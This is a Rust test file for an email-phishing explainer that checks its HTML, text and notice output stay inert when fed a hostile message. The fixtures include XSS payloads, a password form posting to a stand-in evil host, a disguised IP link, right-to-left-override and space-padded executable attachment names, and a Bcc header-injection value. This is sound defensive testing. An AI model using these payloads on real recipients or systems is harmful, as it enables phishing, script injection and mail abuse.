use super::*;
use crate::Config;
use crate::config::{Notice, NoticeTo};
use crate::finding::Verdict;
use lol_html::{HtmlRewriter, Settings, element};
use std::cell::RefCell;

fn engine() -> Engine {
    Engine::new(Config::default(), Signatures::embedded().unwrap())
}

/// A message trying every way to get something active into the page: script in the subject and
/// the body, an image with onerror, a javascript: link, a form, an iframe, `</style>` in the
/// subject, and an RLO in an attachment name that is really a program.
fn hostile() -> Vec<u8> {
    let mut raw = String::from(
        "From: \"<script>alert('name')</script>\" <evil@freemail-box.example>\r\n\
To: staff@example.co.jp\r\n\
Reply-To: \"x\" <collect@evil.example>\r\n\
Subject: </style><script>alert(1)</script><img src=x onerror=alert(2)>\r\n\
MIME-Version: 1.0\r\n\
Content-Type: multipart/mixed; boundary=XX\r\n\r\n\
--XX\r\nContent-Type: text/html; charset=utf-8\r\n\r\n\
<html><head><style>body{background:url(https://track.evil.example/p.png)}</style></head><body>\
<script>document.location='https://evil.example/'</script>\
<img src=\"https://track.evil.example/pixel.gif\" onerror=\"alert(3)\">\
<p>Please <a href=\"javascript:alert(4)\">sign in</a> at \
<a href=\"http://203.0.113.45/login\">https://www.bank.example/login</a></p>\
<form action=\"https://evil.example/post\"><input type=password name=p></form>\
<iframe src=\"https://evil.example/frame\"></iframe></body></html>\r\n\
--XX\r\nContent-Type: application/octet-stream\r\n\
Content-Disposition: attachment; filename*=utf-8''%E8%AD%B0%E4%BA%8B%E9%8C%B2%E2%80%AExcod.scr\r\n\
Content-Transfer-Encoding: base64\r\n\r\n",
    );
    raw.push_str("TVqQAAMAAAAEAAAA//8AALgAAAAAAAAAQAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAgAAAAA==\r\n");
    raw.push_str("--XX--\r\n");
    raw.into_bytes()
}

/// Every element of a page, with its attribute names.
fn elements(html: &str) -> Vec<(String, Vec<String>)> {
    let found = RefCell::new(Vec::new());
    let mut rewriter = HtmlRewriter::new(
        Settings::new().append_element_content_handler(element!("*", |el| {
            let attrs = el.attributes().iter().map(|a| a.name()).collect();
            found.borrow_mut().push((el.tag_name(), attrs));
            Ok(())
        })),
        |_: &[u8]| {},
    );
    rewriter.write(html.as_bytes()).unwrap();
    rewriter.end().unwrap();
    found.into_inner()
}

#[test]
fn hostile_message_yields_html_with_nothing_active() {
    let e = explain(&engine(), &hostile()).unwrap();
    for lang in [Lang::En, Lang::Ja] {
        let html = render_html(&e, lang);
        let allowed = [
            "html", "head", "meta", "title", "style", "body", "main", "div", "h1", "h2", "h3", "p",
            "section", "table", "thead", "tbody", "tr", "th", "td", "span", "strong", "br", "pre",
            "ol", "li", "code", "footer",
        ];
        let els = elements(&html);
        for (tag, attrs) in &els {
            assert!(
                allowed.contains(&tag.as_str()),
                "element <{tag}> in the page"
            );
            for a in attrs {
                assert!(
                    matches!(
                        a.as_str(),
                        "class" | "lang" | "charset" | "http-equiv" | "content" | "name"
                    ),
                    "attribute {a} on <{tag}>"
                );
            }
        }
        assert_eq!(els.iter().filter(|(t, _)| t == "style").count(), 1);
        assert_eq!(
            html.matches("</style>").count(),
            1,
            "only our own style ends"
        );
        assert!(html.contains(
            "<meta http-equiv=\"Content-Security-Policy\" content=\"default-src 'none'; style-src 'unsafe-inline'\">"
        ));
        let lower = html.to_lowercase();
        for active in ["<script", "<img", "<iframe", "<form", "<a ", "url("] {
            assert!(!lower.contains(active), "{active} in the page");
        }
        // What was hostile is still shown, as text.
        assert!(
            html.contains("&lt;/style&gt;&lt;script&gt;"),
            "subject shown escaped"
        );
        assert!(html.contains("javascript[:]alert(4)"));
        assert!(html.contains("hxxp://203[.]0[.]113[.]45/login"));
        assert!(
            !html.contains('\u{202E}'),
            "the RLO itself never reaches the page"
        );
        assert!(html.contains("議事録&lt;U+202E&gt;xcod.scr"));
        assert!(
            html.contains("議事録rcs.docx"),
            "how the name appears on screen"
        );
    }
}

#[test]
fn hostile_message_text_has_no_hidden_characters_or_live_urls() {
    let e = explain(&engine(), &hostile()).unwrap();
    for lang in [Lang::En, Lang::Ja] {
        let text = render_text(&e, lang);
        assert!(!text.contains('\u{202E}'));
        assert!(!text.contains("http://"), "{text}");
        assert!(!text.contains("https://"), "{text}");
        assert!(text.contains("議事録<U+202E>xcod.scr"));
    }
}

#[test]
fn points_are_tied_to_the_link_attachment_and_sender_they_concern() {
    let e = explain(&engine(), &hostile()).unwrap();
    assert!(e.verdict >= Verdict::Quarantine);
    let link = e
        .links
        .iter()
        .find(|l| l.destination.contains("203[.]0[.]113[.]45"))
        .expect("the IP link is listed");
    assert!(link.text_differs);
    assert!(!link.marks.is_empty(), "the IP link carries badges");
    for n in &link.marks {
        let p = &e.points[n - 1];
        assert_eq!(p.n, *n);
        assert_eq!(p.ipa, "link");
        assert!(matches!(p.target, Target::Link(_)));
    }
    let att = &e.attachments[0];
    assert!(att.active);
    assert_eq!(att.real_ext.as_deref(), Some("scr"));
    assert_eq!(att.claimed_ext.as_deref(), Some("docx"));
    assert!(
        att.marks
            .iter()
            .any(|n| e.points[n - 1].rule == "ATTACH_BIDI_CONTROL")
    );
    assert_eq!(
        e.sender.address.as_deref(),
        Some("evil@freemail-box.example")
    );
    assert_eq!(e.sender.reply_to, ["x <collect@evil.example>"]);
    // Numbered in display order, grouped by IPA point in IPA_ORDER.
    let order: Vec<usize> = e
        .points
        .iter()
        .map(|p| IPA_ORDER.iter().position(|k| *k == p.ipa).unwrap_or(99))
        .collect();
    assert!(order.windows(2).all(|w| w[0] <= w[1]), "{order:?}");
    assert!(e.points.iter().enumerate().all(|(i, p)| p.n == i + 1));
    // Every point has the rule's staff explanation in both languages.
    assert!(
        e.points
            .iter()
            .all(|p| !p.explain_en.is_empty() && !p.explain_ja.is_empty())
    );
}

#[test]
fn zip_contents_are_listed_with_their_container() {
    let mut zip = Vec::new();
    {
        let mut w = zip::ZipWriter::new(std::io::Cursor::new(&mut zip));
        w.start_file(
            "請求書.pdf                    .exe",
            zip::write::SimpleFileOptions::default()
                .compression_method(zip::CompressionMethod::Stored),
        )
        .unwrap();
        std::io::Write::write_all(&mut w, b"MZ\x90\x00\x03\x00\x00\x00").unwrap();
        w.finish().unwrap();
    }
    let b64 = base64::Engine::encode(&base64::engine::general_purpose::STANDARD, &zip);
    let raw = format!(
        "From: a@b.example\r\nTo: c@d.example\r\nSubject: invoice\r\nMIME-Version: 1.0\r\n\
Content-Type: multipart/mixed; boundary=Q\r\n\r\n--Q\r\nContent-Type: text/plain\r\n\r\nsee attached\r\n\
--Q\r\nContent-Type: application/zip; name=inv.zip\r\nContent-Disposition: attachment; filename=inv.zip\r\n\
Content-Transfer-Encoding: base64\r\n\r\n{b64}\r\n--Q--\r\n"
    );
    let e = explain(&engine(), raw.as_bytes()).unwrap();
    let inner = e
        .attachments
        .iter()
        .find(|a| a.name.contains(".exe"))
        .expect("the file inside the zip is listed");
    assert_eq!(inner.inside, ["inv.zip"]);
    assert_eq!(inner.name, "請求書.pdf<U+0020 ×20>.exe");
    assert_eq!(inner.looks_like.as_deref(), Some("請求書.pdf"));
    assert_eq!(inner.claimed_ext.as_deref(), Some("pdf"));
    assert!(!inner.marks.is_empty(), "{:?}", e.points);
}

#[test]
fn clean_message_has_a_plain_summary_and_no_points() {
    let e = explain(
        &engine(),
        b"From: Taro <taro@example.co.jp>\nTo: a@example.co.jp\nSubject: lunch\n\nSee you at noon.\n",
    )
    .unwrap();
    assert_eq!(e.verdict, Verdict::Clean);
    assert!(e.points.is_empty());
    assert_eq!(
        e.summary(Lang::En),
        "Nothing suspicious was found in this message."
    );
    assert!(render_html(&e, Lang::Ja).contains("不審な点は見つかりませんでした"));
    assert!(render_text(&e, Lang::En).contains("See you at noon."));
}

#[test]
fn names_show_their_tricks() {
    assert_eq!(show_name("a\u{202E}fdp.exe"), "a<U+202E>fdp.exe");
    assert_eq!(on_screen("a\u{202E}fdp.exe"), "aexe.pdf");
    assert_eq!(
        on_screen("報告書\u{202E}cod.exe\u{202C}x"),
        "報告書exe.docx"
    );
    assert_eq!(
        show_name("a.pdf\u{3000}\u{3000}\u{3000}.exe"),
        "a.pdf<U+3000 ×3>.exe"
    );
    let hidden = &Signatures::embedded().unwrap().lists.hidden_extensions;
    assert_eq!(
        claimed_extension("a.pdf.exe", "a.pdf.exe", hidden).as_deref(),
        Some("pdf")
    );
    assert_eq!(
        claimed_extension("a.txt", "a.txt", hidden).as_deref(),
        Some("txt")
    );
}

/// The extensions Windows hides come from `lists/hidden_extensions.txt`: every one the
/// explanation relied on when the list was code is there, and a site list without `.exe`
/// shows the `.exe` of `a.pdf.exe` as the extension claimed.
#[test]
fn hidden_extensions_come_from_the_list() {
    let hidden = Signatures::embedded().unwrap().lists.hidden_extensions;
    for ext in [
        "exe", "scr", "com", "pif", "bat", "cmd", "js", "jse", "vbs", "vbe", "wsf", "hta", "lnk",
        "msi", "cpl", "iso", "img",
    ] {
        assert!(hidden.contains(ext), "{ext}");
        let name = format!("invoice.pdf.{ext}");
        assert_eq!(
            claimed_extension(&name, &name, &hidden).as_deref(),
            Some("pdf")
        );
    }
    let mut site = hidden.clone();
    site.remove("exe");
    assert_eq!(
        claimed_extension("a.pdf.exe", "a.pdf.exe", &site).as_deref(),
        Some("exe")
    );
    assert_eq!(
        claimed_extension("a.pdf.scr", "a.pdf.scr", &site).as_deref(),
        Some("pdf")
    );
}

#[test]
fn explain_never_panics() {
    let e = engine();
    assert!(matches!(explain(&e, b""), Err(ScanError::Empty)));
    let mut seed = 0x9E37_79B9_u32;
    let base = hostile();
    for _ in 0..200 {
        let mut d = base.clone();
        for _ in 0..8 {
            seed ^= seed << 13;
            seed ^= seed >> 17;
            seed ^= seed << 5;
            let at = seed as usize % d.len();
            d[at] = (seed >> 8) as u8;
        }
        // The scan turns a panic into `ScanError::Internal` and `from_message` falls back
        // quietly: both would hide one here, so the scan's error is a failure and the second
        // parse and the building run unguarded.
        let report = match e.scan(&d) {
            Ok(report) => report,
            Err(ScanError::Internal { stage, message }) => {
                panic!("the scan panicked in {stage}: {message}")
            }
            Err(_) => continue,
        };
        let limits = &e.config().limits;
        let msg = message::parse(&d, limits).unwrap_or_default();
        let x = build(&msg, &report, e.signatures(), &[]);
        let _ = render_html(&x, Lang::Ja);
        let _ = render_text(&x, Lang::En);
        let _ = quarantine_notice(&x, Lang::Ja, "a@b", "c@d");
    }
    assert!(explain(&e, &[0u8, 0xff, 0x1b, b'<']).is_ok());
}

#[test]
fn notice_is_a_parseable_message_naming_the_rules() {
    let e = explain(&engine(), &hostile()).unwrap();
    let raw = quarantine_notice(
        &e,
        Lang::Ja,
        "lurescreen@example.co.jp",
        "staff@example.co.jp\r\nBcc: victim@example.com",
    );
    let text = String::from_utf8(raw.clone()).unwrap();
    assert!(text.is_ascii(), "7-bit on the wire");
    assert!(!text.contains("\r\nBcc:"), "no header injection");
    let m = mail_parser::MessageParser::default().parse(&raw).unwrap();
    let subject = m.subject().unwrap();
    assert!(
        subject.starts_with("[lurescreen] メールを隔離しました"),
        "{subject}"
    );
    assert!(subject.contains("</style>"), "{subject}");
    let body = m.body_text(0).unwrap();
    assert!(body.contains("ATTACH_BIDI_CONTROL"), "{body}");
    assert!(body.contains("evil@freemail-box.example"));
    assert!(!body.contains('\u{202E}'));
    assert!(!body.contains("http://"), "links in a notice are defanged");
    assert_eq!(
        m.header("Auto-Submitted").and_then(|h| h.as_text()),
        Some("auto-generated")
    );
}

#[test]
fn notices_are_written_whole_one_per_recipient() {
    let dir = tempfile::tempdir().unwrap();
    let e = explain(&engine(), &hostile()).unwrap();
    let mut n = Notice {
        enabled: true,
        dir: dir.path().join("spool"),
        ..Notice::default()
    };
    let files = notice::write(&n, &e, Lang::En, &[], "ABC123").unwrap();
    assert_eq!(files.len(), 1);
    let names: Vec<_> = std::fs::read_dir(&n.dir).unwrap().collect();
    assert_eq!(names.len(), 1, "no temporary file is left");
    let written = std::fs::read(&files[0]).unwrap();
    assert!(String::from_utf8_lossy(&written).contains("To: staff@example.co.jp"));
    assert!(files[0].to_string_lossy().ends_with(".ABC123.eml"));

    // Envelope recipients win over the header; admin mode writes one for the admin.
    let files = notice::write(
        &n,
        &e,
        Lang::En,
        &["<a@example.co.jp>".into(), "b@example.co.jp".into()],
        "q",
    )
    .unwrap();
    assert_eq!(files.len(), 2);
    n.to = NoticeTo::Admin;
    n.admin = "secadmin@example.co.jp".into();
    let files = notice::write(&n, &e, Lang::En, &["a@example.co.jp".into()], "q").unwrap();
    assert_eq!(files.len(), 1);
    assert!(
        String::from_utf8_lossy(&std::fs::read(&files[0]).unwrap())
            .contains("To: secadmin@example.co.jp")
    );

    // A folder that cannot be made is an error to log, not a panic.
    let blocker = dir.path().join("file");
    std::fs::write(&blocker, b"x").unwrap();
    n.dir = blocker.join("sub");
    assert!(notice::write(&n, &e, Lang::En, &[], "q").is_err());
}

#[test]
fn notice_config_is_validated() {
    let ok = Config::from_toml(
        "[notice]\nenabled = true\ndir = \"/tmp/n\"\nto = \"admin\"\nadmin = \"sec@example.co.jp\"\nlang = \"ja\"\n",
        "c",
    )
    .unwrap();
    assert_eq!(ok.notice.to, NoticeTo::Admin);
    assert!(Config::from_toml("[notice]\nenabled = true\nadmin = \"a b <c>\"\n", "c").is_err());
    assert!(Config::from_toml("[notice]\nto = \"everyone\"\n", "c").is_err());
}

#[test]
fn a_reply_to_point_is_marked_on_the_reply_to_row() {
    let e = explain(&engine(), &hostile()).unwrap();
    let reply: Vec<&Point> = e
        .points
        .iter()
        .filter(|p| p.target == Target::Sender("Reply-To".into()))
        .collect();
    if let Some(p) = reply.first() {
        assert!(e.sender_marks("Reply-To").contains(&p.n));
        assert!(!e.sender_marks("From").contains(&p.n));
    }
    // Every sender point is marked on exactly one row.
    for p in e
        .points
        .iter()
        .filter(|p| matches!(p.target, Target::Sender(_)))
    {
        let rows = [
            "From",
            "Reply-To",
            "Return-Path",
            "Sender",
            "Authentication-Results",
        ];
        let n = rows
            .iter()
            .filter(|r| e.sender_marks(r).contains(&p.n))
            .count();
        assert_eq!(n, 1, "{}", p.rule);
    }
}

#[test]
fn link_hosts_in_reasons_are_defanged_and_file_names_are_not() {
    let e = explain(&engine(), &hostile()).unwrap();
    let ip = e
        .points
        .iter()
        .find(|p| p.rule == "LINK_IP_HOST")
        .expect("an IP link point");
    assert!(
        ip.reason_en.contains("203[.]0[.]113[.]45"),
        "{}",
        ip.reason_en
    );
    assert!(!ip.reason_en.contains("203.0.113.45"), "{}", ip.reason_en);
    for p in &e.points {
        assert!(!p.reason_en.contains("[[.]]"), "{}", p.reason_en);
        assert!(!p.explain_ja.contains("[[.]]"), "{}", p.explain_ja);
    }
    let bidi = e
        .points
        .iter()
        .find(|p| p.rule == "ATTACH_BIDI_CONTROL")
        .unwrap();
    assert!(bidi.reason_en.contains("xcod.scr"), "{}", bidi.reason_en);
}
